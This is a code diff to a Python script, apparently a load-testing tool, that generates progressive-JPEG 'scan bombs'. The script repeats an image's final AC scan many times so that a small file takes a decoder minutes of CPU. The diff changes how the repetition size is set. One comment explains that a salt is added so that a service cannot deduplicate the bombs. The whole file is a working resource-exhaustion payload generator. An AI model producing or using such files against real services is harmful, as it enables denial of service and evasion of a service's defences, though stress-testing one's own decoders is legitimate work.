@@ -2,11 +2,12 @@
 """Makes a progressive-JPEG scan bomb from a progressive JPEG: its last scan (an AC scan, all
 zero in a flat image, so a few bytes) repeated until the file reaches a size, before EOI. Each
 repetition makes the decoder walk every block of the component again, so a file of a few hundred
-KB costs minutes of CPU. Load/scan-bomb.py PROGRESSIVE.jpg OUT.jpg [TARGET_BYTES] [SALT]"""
+KB costs minutes of CPU. Load/scan-bomb.py PROGRESSIVE.jpg OUT.jpg [REPEATED_BYTES] [SALT]
+REPEATED_BYTES (default 150,000) is how much the repetitions add to the file."""
 import sys
 
 source, target = sys.argv[1], sys.argv[2]
-target_bytes = int(sys.argv[3]) if len(sys.argv) > 3 else 163_000
+repeated_bytes = int(sys.argv[3]) if len(sys.argv) > 3 else 150_000
 salt = sys.argv[4].encode() if len(sys.argv) > 4 else b"bomb"
 data = open(source, "rb").read()
 assert data[:2] == b"\xff\xd8", "not a JPEG"
@@ -30,7 +31,7 @@ scan = data[last_scan[0]:last_scan[1]]
 head = data[:position]
 # A comment segment after SOI makes each bomb distinct (no deduplication by the service).
 comment = b"\xff\xfe" + (len(salt) + 2).to_bytes(2, "big") + salt
-repeats = max(1, (target_bytes - len(head)) // len(scan))
+repeats = max(1, repeated_bytes // len(scan))
 with open(target, "wb") as out:
     out.write(head[:2] + comment + head[2:] + scan * repeats + b"\xff\xd9")
 print(f"{target}: {len(head) + len(comment) + len(scan) * repeats + 2} bytes, the last scan ({len(scan)} bytes) repeated {repeats} more times")
